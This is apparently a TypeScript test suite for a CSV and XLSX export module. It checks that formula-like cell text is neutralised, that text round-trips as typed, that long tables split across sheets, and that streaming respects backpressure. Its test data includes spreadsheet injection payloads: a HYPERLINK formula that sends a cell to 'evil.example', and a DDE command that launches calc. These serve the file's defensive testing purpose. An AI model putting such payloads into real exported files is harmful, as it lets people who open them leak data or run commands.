import { Readable } from 'node:stream';
import { buffer, text } from 'node:stream/consumers';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readXlsx } from '../../testing/read-xlsx.ts';
import { xlsxStream } from '../../core/files/xlsx.ts';
import { type Cell, csvStream } from '../../core/files/csv.ts';
import { tableDownload } from '../../core/files/download.ts';

/**
 * Texts that a spreadsheet program may take for a formula, a command or a new cell, and answers that look like them.
 */
const dangerous = [
  '-x+1',
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '=HYPERLINK("https://evil.example?x="&A1,"more")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  "''-x",
  '＝1+1',
  '－x',
  'a\r\n=1+1',
  'a","=1+1',
  'a;=1+1',
  '"=1+1"',
  '<b>&amp;"\'</b>',
  '',
  ' ',
  "O'Brien",
  '王小明 🎓',
  '1e9',
  '٣',
];

async function* rowsOf(rows: readonly (readonly Cell[])[]) {
  yield* rows;
}

/** Fields of RFC 4180, as a program reads them that knows nothing of us. */
function parseCsv(file: string): string[][] {
  const rows: string[][] = [[]];
  const field = /(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n|$)/gy;
  const content = file.replace(/^\uFEFF/, '');
  while (field.lastIndex < content.length) {
    const [, quoted, plain = '', end] = field.exec(content) ?? [];
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') rows.push([]);
  }
  if (rows.at(-1)?.length === 0) rows.pop();
  return rows;
}

/** The rule of the file: one apostrophe before what looks like a formula was not typed. */
const asTyped = (field: string) => field.replace(/^'(?='*[=+\-@\t\r\n＝＋－＠])/, '');

const writeXlsx = (rows: AsyncIterable<readonly Cell[]>, sheetRows?: number) =>
  buffer(Readable.from(xlsxStream(rows, { at: new Date('2026-01-01'), ...(sheetRows ? { sheetRows } : {}) })));
const writeCsv = (rows: readonly (readonly Cell[])[]) => text(csvStream(rowsOf(rows)));
const typed = fc.oneof(
  fc.constantFrom(...dangerous),
  fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', ',', ';', '"', '\t', '\r', '\n', ' ', 'x') }),
  fc.string(),
);

describe('a CSV file that is opened again [SC16]', () => {
  it('has no field that a program takes for a formula, and as many fields as were written', async () => {
    const fields = parseCsv(await writeCsv([dangerous, dangerous]));
    expect(fields.map((row) => row.length)).toEqual([dangerous.length, dangerous.length]);
    for (const field of fields.flat()) expect(field).not.toMatch(/^(?!-\d+(?:[.,]\d+)?$)[=+\-@\t\r\n＝＋－＠]/);
  });

  it('gives every text back as it was typed', async () => {
    const [row] = parseCsv(await writeCsv([dangerous]));
    expect(row?.map(asTyped)).toEqual(dangerous);
    await fc.assert(
      fc.asyncProperty(fc.array(typed, { minLength: 2, maxLength: 4 }), async (texts) => {
        const [read] = parseCsv(await writeCsv([texts]));
        expect(read?.map(asTyped)).toEqual(texts);
      }),
      { seed: 20_261_121, numRuns: 300 },
    );
  });

  it('leaves numbers numbers, negative ones too', async () => {
    expect(parseCsv(await writeCsv([[-1, 2.5, null]]))).toEqual([['-1', '2.5', '']]);
  });
});

describe('a workbook that is opened again [SC16]', () => {
  it('has texts typed as texts, with what was typed, and numbers as numbers', async () => {
    const shown = dangerous.filter((one) => one.trim() !== '');
    const { cells } = readXlsx(await writeXlsx(rowsOf([['Head'], shown, [-1, 2.5]])));
    const [, ...rest] = cells;
    const texts = rest.slice(0, shown.length);
    expect(texts.map(({ value }) => value.replaceAll('\r\n', '\n').trim())).toEqual(
      shown.map((one) => one.replaceAll('\r\n', '\n').trim()),
    );
    for (const { type, isFormula } of texts)
      expect([['s', 'str', 'inlineStr'].includes(type), isFormula]).toEqual([true, false]);
    expect(rest.slice(shown.length).map(({ type, value }) => [type, value])).toEqual([
      ['n', '-1'],
      ['n', '2.5'],
    ]);
  });

  it('holds no formula, link, macro or connection at all', async () => {
    const { parts } = readXlsx(await writeXlsx(rowsOf([['Head'], dangerous])));
    expect(Object.keys(parts).filter((name) => /vba|external|connections|embeddings/i.test(name))).toEqual([]);
    expect(parts['xl/worksheets/sheet1.xml']).not.toMatch(/<f\b|<hyperlink/);
  });
});

describe('a long table [R29]', () => {
  it('continues on further sheets, each with the head', async () => {
    const rows = Array.from({ length: 12 }, (_, n): Cell[] => [n, `row ${n}`]);
    const { parts } = readXlsx(await writeXlsx(rowsOf([['Number', 'Text'], ...rows]), 6));
    const sheets = Object.keys(parts).filter((name) => name.startsWith('xl/worksheets/'));
    expect(sheets).toHaveLength(3);
    for (const sheet of sheets) expect(parts[sheet]).toContain('<t xml:space="preserve">Number</t>');
    expect(parts['xl/worksheets/sheet3.xml']).toContain('row 11');
    expect(parts['xl/workbook.xml']?.match(/<sheet /g)).toHaveLength(3);
  });

  const forms: [string, (rows: AsyncIterable<readonly Cell[]>) => Readable][] = [
    ['CSV', (rows) => tableDownload(rows, { name: 'table.csv', format: 'csv', at: new Date('2026-01-01') }).content],
    ['XLSX', (rows) => tableDownload(rows, { name: 'table.xlsx', format: 'xlsx', at: new Date('2026-01-01') }).content],
  ];

  it.each(forms)('lets other requests be served while its %s is written', async (_, streamOf) => {
    let [inTurn, mostInTurn, isOver] = [0, 0, false];
    const beginTurn = () => {
      inTurn = 0;
      if (!isOver) setImmediate(beginTurn);
    };
    beginTurn();
    async function* wide(): AsyncGenerator<Cell[]> {
      for (let row = 0; row < 60; row += 1) {
        inTurn += 1;
        mostInTurn = Math.max(mostInTurn, inTurn);
        // So long on any machine that few rows fill a slice.
        for (const end = performance.now() + 1; performance.now() < end;);
        yield Array.from({ length: 200 }, () => 12.25);
      }
    }
    await buffer(streamOf(wide()));
    isOver = true;
    expect(mostInTurn).toBeLessThan(30);
  });

  it.each(forms)('is read only as fast as its %s is taken', async (_, streamOf) => {
    let made = 0;
    async function* endless(): AsyncGenerator<Cell[]> {
      for (;;) yield [(made += 1), 'x'.repeat(200)];
    }
    const stream = streamOf(endless());
    const taken = stream[Symbol.asyncIterator]();
    for (let chunk = 0; chunk < 3; chunk += 1) await taken.next();
    expect(made).toBeLessThan(100_000);
    stream.destroy();
  });
});
